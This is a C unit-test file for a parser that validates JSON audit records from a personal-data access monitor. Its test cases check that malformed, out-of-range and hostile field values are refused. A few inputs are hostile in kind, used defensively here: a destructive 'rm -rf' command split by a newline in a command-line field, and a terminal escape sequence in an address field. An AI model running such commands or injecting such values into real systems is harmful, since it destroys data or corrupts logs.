	expect_event_error("piiwatch.audit_session", "4294967295", "'piiwatch.audit_session'");
	expect_event_error("piiwatch.session_id", "-1", "'piiwatch.session_id' is out of range");
	expect_event_error("process.pid", "4294967296", "'process.pid' is out of range");
	expect_event_error("process.user.id", "\"0x0\"", "'process.user.id' must be");
	expect_event_error("process.name", "\"seventeen-chars-x\"", "'process.name' is longer");
	expect_event_error("file.path", "\"/a\\u0001b\"", "'file.path' holds control characters");
	expect_event_error("user.name", "[\"x\"]", "'user.name' must be a string");
	expect_event_error("piiwatch.process.ancestors", "[{\"pid\":5291,\"executable\":\"/bin/sh\"}]",
			   "'piiwatch.process.ancestors[0].pid' must equal 'process.parent.pid'");
	expect_event_error("process.parent.executable", "\"/bin/sh\"",
			   "'process.parent.executable' must equal");
}

static void test_hostile_fields(void **state)
{
	static const struct {
		const char *path, *value, *needle;
	} cases[] = {
		{ "piiwatch.schema", "2", "'piiwatch.schema' is 2" },
		{ "piiwatch.schema", NULL, "'piiwatch.schema' is missing" },
		{ "event.dataset", "\"piiwatch.login\"", "'event.dataset' must be" },
		{ "event.dataset", "7", "'event.dataset' must be a string" },
		{ "event.kind", "\"alert\"", "'event.kind' must be \"event\"" },
		{ "event", "\"x\"", "field 'event' must be an object" },
		{ "host.boot.id", NULL, "'host.boot.id' is missing" },
		{ "host.boot.id", "\"" BOOT "x\"", "'host.boot.id' is longer than 36" },
		{ "piiwatch.access_id", "-1", "'piiwatch.access_id' is out of range" },
		{ "piiwatch.access_id", "1.5", "'piiwatch.access_id' must be an integer" },
		{ "piiwatch.access_id", "\"7\"", "'piiwatch.access_id' must be an integer" },
		/* json-c saturates what does not fit at 2^64-1: refused. */
		{ "piiwatch.access_id", "18446744073709551616", "'piiwatch.access_id' is out of range" },
		{ "piiwatch.bytes_read", "18446744073709551615", "'piiwatch.bytes_read' is out of range" },
		{ "piiwatch.session_id", "-5", "'piiwatch.session_id' is out of range" },
		{ "piiwatch.session_id", "9223372036854775808", "'piiwatch.session_id' is out of range" },
		{ "piiwatch.audit_session", "4294967295", "'piiwatch.audit_session' is out of range" },
		{ "piiwatch.audit_session", "true", "'piiwatch.audit_session' must be an integer" },
		{ "user.id", "1001", "'user.id' must be a string" },
		{ "user.id", "\"12abc\"", "'user.id' must be a string of decimal digits" },
		{ "user.id", "\"4294967295\"", "'user.id' must be a string of decimal digits" },
		{ "process.user.id", NULL, "'process.user.id' is missing" },
		{ "process.pid", "4294967296", "'process.pid' is out of range" },
		{ "process.pid", NULL, "'process.pid' is missing" },
		{ "process.parent.pid", "null", "'process.parent.pid' must not be null" },
		{ "process.name", "\"12345678901234567\"", "'process.name' is longer than 16" },
		{ "process.executable", "\"/bin/\\u0000sh\"", "'process.executable' holds control" },
		{ "process.command_line", "\"rm -rf\\n/\"", "'process.command_line' holds control" },
		{ "piiwatch.open_flags", "4294967296", "'piiwatch.open_flags' is out of range" },
		{ "user.name", "[\"tanaka\"]", "'user.name' must be a string" },
		{ "piiwatch.dataset", NULL, "'piiwatch.dataset' is missing" },
		{ "file.path", NULL, "'file.path' is missing" },
		{ "file.path", "{}", "'file.path' must be a string" },
		{ "file.device", "\"8\"", "'file.device' must be MAJOR:MINOR" },
		{ "file.device", "\"4096:1\"", "'file.device' must be MAJOR:MINOR" },
		{ "file.device", "\"8:1048576\"", "'file.device' must be MAJOR:MINOR" },
		{ "file.device", "\"8:-1\"", "'file.device' must be MAJOR:MINOR" },
		{ "file.inode", "\"-1\"", "'file.inode' must be a string of decimal digits" },
		{ "file.inode", "\"\"", "'file.inode' must be a string of decimal digits" },
		{ "file.inode", "\"18446744073709551616\"", "'file.inode'" },
		{ "piiwatch.honeytoken", "\"true\"", "'piiwatch.honeytoken' must be a boolean" },
		{ "piiwatch.honeytoken", NULL, "'piiwatch.honeytoken' is missing" },
		{ "piiwatch.staging", "1", "'piiwatch.staging' must be a boolean" },
		{ "piiwatch.io_flags", "-1", "'piiwatch.io_flags' is out of range" },
		{ "piiwatch.io_flags", NULL, "'piiwatch.io_flags' is missing" },
		{ "event.start", NULL, "'event.start' is missing" },
		{ "event.start", "1795578906", "'event.start' must be a string" },
		{ "event.start", "\"2026-02-30T00:00:00Z\"", "'event.start' must be a UTC time" },
		{ "event.start", "\"2026-11-25 03:58:26Z\"", "'event.start' must be a UTC time" },
		{ "event.start", "\"2026-11-25T03:58:26\"", "'event.start' must be a UTC time" },
		{ "event.start", "\"2026-11-25T03:58:26+09:00\"", "'event.start' must be a UTC time" },
		{ "event.start", "\"2026-11-25T03:58:26.1234567890Z\"", "'event.start' must be a UTC" },
		{ "event.start", "\"2026-11-25T03:58:26.Z\"", "'event.start' must be a UTC time" },
		{ "event.start", "\"1969-12-31T23:59:59Z\"", "'event.start' must be a UTC time" },
		{ "event.start", "\"2026-11-25T24:00:00Z\"", "'event.start' must be a UTC time" },
		{ "event.start", "\"+026-11-25T03:58:26Z\"", "'event.start' must be a UTC time" },
		{ "event.start", "\"2600-01-01T00:00:00Z\"", "'event.start' must be a UTC time" },
		{ "event.start", "\"2026-11-25T04:00:00Z\"", "before 'event.start'" },
		{ "@timestamp", NULL, "'@timestamp' is missing" },
		{ "event.end", "\"2026-11-25T03:00:00Z\"", "before 'event.start'" },
		{ "piiwatch.bytes_read", "-1", "'piiwatch.bytes_read' is out of range" },
		{ "piiwatch.bytes_read", "1e3", "'piiwatch.bytes_read' must be an integer" },
		{ "piiwatch.bytes_written", NULL, "'piiwatch.bytes_written' is missing" },
		{ "piiwatch.reads", "null", "'piiwatch.reads' must not be null" },
		{ "piiwatch.writes", "false", "'piiwatch.writes' must be an integer" },
		{ "piiwatch.pam_service", "1", "'piiwatch.pam_service' must be a string" },
		{ "source.address", "\"\\u001b[31m\"", "'source.address' holds control" },
		{ "piiwatch.process", "[]", "'piiwatch.process' must be an object" },
		{ "piiwatch.process.ancestors", "{}", "'piiwatch.process.ancestors' must be an array" },
		{ "piiwatch.process.ancestors", "[1]", "'piiwatch.process.ancestors[0]' must be an object" },
		{ "piiwatch.process.ancestors", "[null]", "'piiwatch.process.ancestors[0]' must be an object" },
		{ "piiwatch.process.ancestors", "[{\"pid\":5290}]",
		  "'piiwatch.process.ancestors[0].executable' is missing" },
		{ "piiwatch.process.ancestors", "[{\"executable\":\"/usr/bin/bash\"}]",
		  "'piiwatch.process.ancestors[0].pid' is missing" },
		{ "piiwatch.process.ancestors", "[{\"pid\":\"5290\",\"executable\":\"/usr/bin/bash\"}]",
		  "'piiwatch.process.ancestors[0].pid' must be an integer" },
		{ "piiwatch.process.ancestors", "[{\"pid\":5291,\"executable\":\"/usr/bin/bash\"}]",
		  "'piiwatch.process.ancestors[0].pid' must equal 'process.parent.pid'" },
		{ "piiwatch.process.ancestors",
		  "[{\"pid\":5290,\"executable\":\"/usr/bin/bash\"},{\"pid\":0,\"executable\":\"/x\"}]",
		  "'piiwatch.process.ancestors[1].pid' is out of range [1, 4294967295]" },
		{ "piiwatch.process.ancestors",
		  "[{\"pid\":5290,\"executable\":\"/usr/bin/bash\"},"
		  "{\"pid\":4294967296,\"executable\":\"/x\"}]",
		  "'piiwatch.process.ancestors[1].pid' is out of range" },
		{ "piiwatch.process.ancestors",
		  "[{\"pid\":5290,\"executable\":\"/usr/bin/bash\"},{\"pid\":5290,\"executable\":\"/x\"}]",
		  "'piiwatch.process.ancestors[1].pid' names pid 5290 a second time" },
		{ "piiwatch.process.ancestors",
		  "[{\"pid\":5290,\"executable\":\"/usr/bin/bash\"},{\"pid\":1,\"executable\":\"/init\"},"
		  "{\"pid\":7,\"executable\":\"/x\"}]",
		  "'piiwatch.process.ancestors[2].pid' comes after pid 1" },
		{ "piiwatch.process.ancestors",
		  "[{\"pid\":5290,\"executable\":\"/usr/bin/bash\"},{\"pid\":2,\"executable\":\"/b\"},"
		  "{\"pid\":3,\"executable\":\"/c\"},{\"pid\":4,\"executable\":\"/d\"},"
		  "{\"pid\":5,\"executable\":\"/e\"},{\"pid\":6,\"executable\":\"/f\"}]",
		  "'piiwatch.process.ancestors' holds more than 5 ancestors" },
		{ "piiwatch.process.ancestors", "[{\"pid\":5290,\"executable\":\"\"}]",
		  "'piiwatch.process.ancestors[0].executable' must not be empty" },
		{ "piiwatch.process.ancestors", "[{\"pid\":5290,\"executable\":\"/a\\nb\"}]",
		  "'piiwatch.process.ancestors[0].executable' holds control characters" },
		{ "piiwatch.process.ancestors", "[{\"pid\":5290,\"executable\":5}]",
		  "'piiwatch.process.ancestors[0].executable' must be a string" },
		{ "piiwatch.process.ancestors", NULL,
		  "'process.parent.executable' needs 'piiwatch.process.ancestors'" },
		{ "piiwatch.process.ancestors", "[]",
		  "'process.parent.executable' needs 'piiwatch.process.ancestors'" },
		{ "process.parent.executable", "\"/usr/bin/zsh\"",
		  "'process.parent.executable' must equal 'piiwatch.process.ancestors[0].executable'" },
		{ "process.parent.executable", "7", "'process.parent.executable' must be a string" },
	};
	size_t i;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
		expect_mutation_error(cases[i].path, cases[i].value, cases[i].needle);
}

/* Parse an access line after changes to its chain fields (a value NULL
 * removes the field) and return its chain text, "(none)" for none. */
static void chain_after(const char *const changes[][2], size_t n_changes, char *out, size_t n)
{
	struct pw_access a;
	json_object *root, *parent;
	char buf[64], *dot, *key, *line, err[256] = "";
	size_t i;

	fill_access(&a);
	root = pw_ecs_from_access(&a, NULL);
	pw_access_free_strings(&a);
	for (i = 0; i < n_changes; i++) {
		snprintf(buf, sizeof(buf), "%s", changes[i][0]);
		parent = root;
		for (key = buf; (dot = strchr(key, '.')) != NULL; key = dot + 1) {
			*dot = '\0';
			assert_true(json_object_object_get_ex(parent, key, &parent));
		}
		if (changes[i][1])
			json_object_object_add(parent, key, json_tokener_parse(changes[i][1]));
		else
			json_object_object_del(parent, key);
	}
	line = line_of(root);
	if (pw_ecs_to_access(line, strlen(line), &a, err, sizeof(err)))
		fail_msg("%s: %s", err, line);
	snprintf(out, n, "%s", a.ancestors ? a.ancestors : "(none)");
	pw_access_free_strings(&a);
	free(line);
}

/* Files of earlier versions have no chain; an empty or null one is none;
 * process.parent.executable is derived, and may be left out. */
static void test_ancestors_optional(void **state)
{
	static const char *const no_parent_exe[][2] = { { "process.parent.executable", NULL } };
	static const char *const old_file[][2] = { { "process.parent.executable", NULL },
						   { "piiwatch.process", NULL } };
	static const char *const empty[][2] = { { "process.parent.executable", NULL },
						{ "piiwatch.process.ancestors", "[]" } };
	static const char *const null[][2] = { { "process.parent.executable", NULL },
					       { "piiwatch.process.ancestors", "null" } };
	char chain[512];

	chain_after(no_parent_exe, 1, chain, sizeof(chain));
	assert_string_equal(chain, CHAIN);
	chain_after(old_file, 2, chain, sizeof(chain));
	assert_string_equal(chain, "(none)");
	chain_after(empty, 2, chain, sizeof(chain));
	assert_string_equal(chain, "(none)");
	chain_after(null, 2, chain, sizeof(chain));
	assert_string_equal(chain, "(none)");
}

/* The chain's text is bounded as the collector bounds it. */
static void test_ancestors_too_long(void **state)
{
	char big[PW_ANCESTORS_TEXT_MAX + 2], json[2 * PW_ANCESTORS_TEXT_MAX + 200];

	memset(big, 'p', sizeof(big) - 1);
	big[sizeof(big) - 1] = '\0';
	snprintf(json, sizeof(json), "[{\"pid\":5290,\"executable\":\"%s\"}]", big);
	expect_mutation_error("piiwatch.process.ancestors", json,
			      "'piiwatch.process.ancestors[0].executable' is longer than 4096 bytes");
	/* Programs that fit alone, but not together with their pids. */
	big[2040] = '\0';
	snprintf(json, sizeof(json),
		 "[{\"pid\":5290,\"executable\":\"/usr/bin/bash\"},{\"pid\":2,\"executable\":\"%s\"},"
		 "{\"pid\":1,\"executable\":\"%s\"}]", big, big);
	expect_mutation_error("piiwatch.process.ancestors", json,
			      "'piiwatch.process.ancestors' holds more than 4096 bytes");
}

static void expect_line_error(const char *line, size_t len, const char *needle)
{
	struct pw_ecs_record rec;
	char err[256] = "";

	assert_int_equal(pw_ecs_parse_line(line, len, &rec, err, sizeof(err)), -1);
	if (!strstr(err, needle))
		fail_msg("error '%s' does not mention '%s'", err, needle);
}

static void test_hostile_lines(void **state)
{
	static const char deep[] = "{\"a\":{\"b\":{\"c\":{\"d\":{\"e\":{\"f\":{\"g\":{\"h\":"
				   "{\"i\":{\"j\":{}}}}}}}}}}}";
	size_t big = PW_ECS_LINE_MAX + 1;
	struct pw_access a;
	char *line, *s, err[256];

	expect_line_error("", 0, "not one JSON object");
	expect_line_error("[]", 2, "expected a JSON object");
	expect_line_error("{} {}", 5, "not one JSON object");
	expect_line_error("{\"x\":\"\xff\"}", 9, "not one JSON object");
	expect_line_error(deep, strlen(deep), "not one JSON object");
	expect_line_error("{}", 2, "'piiwatch.schema' is missing");
	/* A NUL byte inside the line is not the end of it. */
	expect_line_error("{}\0{}", 5, "NUL byte");

	line = malloc(big + 1);
	memset(line, ' ', big);
	line[0] = '{';
	line[big - 1] = '}';
	line[big] = '\0';
	expect_line_error(line, big, "longer than 65536");
	free(line);

	/* A path just over the limit. */
	fill_access(&a);
	free(a.path);
	a.path = malloc(PW_ECS_STRING_MAX + 2);
	memset(a.path, 'p', PW_ECS_STRING_MAX + 1);
	a.path[PW_ECS_STRING_MAX + 1] = '\0';
	line = line_of(pw_ecs_from_access(&a, NULL));
	pw_access_free_strings(&a);
	assert_int_equal(pw_ecs_to_access(line, strlen(line), &a, err, sizeof(err)), -1);
	assert_non_null(strstr(err, "'file.path' is longer than 8192"));
	/* Cut anywhere, a line is refused, never half-read. */
	for (s = line + strlen(line) - 1; s > line; s -= 997)
		expect_line_error(line, (size_t)(s - line), "not one JSON object");
	free(line);
}

/* Every example in docs/json-schema.md parses: the document and the code
 * agree.  The suite runs from the top of the source tree. */
static void test_doc_examples_parse(void **state)
{
	FILE *f = fopen("docs/json-schema.md", "r");
	struct pw_ecs_record rec;
	char *buf = NULL, err[256];
	size_t cap = 0;
	ssize_t n;
	int seen[PW_ECS_EVENT + 1] = { 0 };

	if (!f)
		skip();
	while ((n = getline(&buf, &cap, f)) > 0) {
		if (strncmp(buf, "{\"@timestamp\"", 13) != 0)
			continue;
		if (buf[n - 1] == '\n')
			buf[--n] = '\0';
		if (pw_ecs_parse_line(buf, (size_t)n, &rec, err, sizeof(err)))
			fail_msg("docs example does not parse: %s: %s", err, buf);
		seen[rec.kind]++;
		pw_ecs_record_free(&rec);
	}
	free(buf);
	fclose(f);
	assert_true(seen[PW_ECS_ACCESS] >= 1);
	assert_true(seen[PW_ECS_SESSION] >= 1);
	assert_true(seen[PW_ECS_ALERT] >= 1);
	assert_true(seen[PW_ECS_EVENT] >= 1);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_access_roundtrip),
		cmocka_unit_test(test_access_ecs_names),
		cmocka_unit_test(test_access_io_names),
		cmocka_unit_test(test_access_line_matches_json_c),
		cmocka_unit_test(test_access_line_every_byte_everywhere),
		cmocka_unit_test(test_unclean_strings_escaped),
		cmocka_unit_test(test_session_roundtrip),
		cmocka_unit_test(test_alert_roundtrip),
		cmocka_unit_test(test_event_roundtrip),
		cmocka_unit_test(test_session_row),
		cmocka_unit_test(test_hostile_event_fields),
		cmocka_unit_test(test_hostile_fields),
		cmocka_unit_test(test_ancestors_optional),
		cmocka_unit_test(test_ancestors_too_long),
		cmocka_unit_test(test_empty_required_strings),
		cmocka_unit_test(test_hostile_lines),
		cmocka_unit_test(test_doc_examples_parse),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
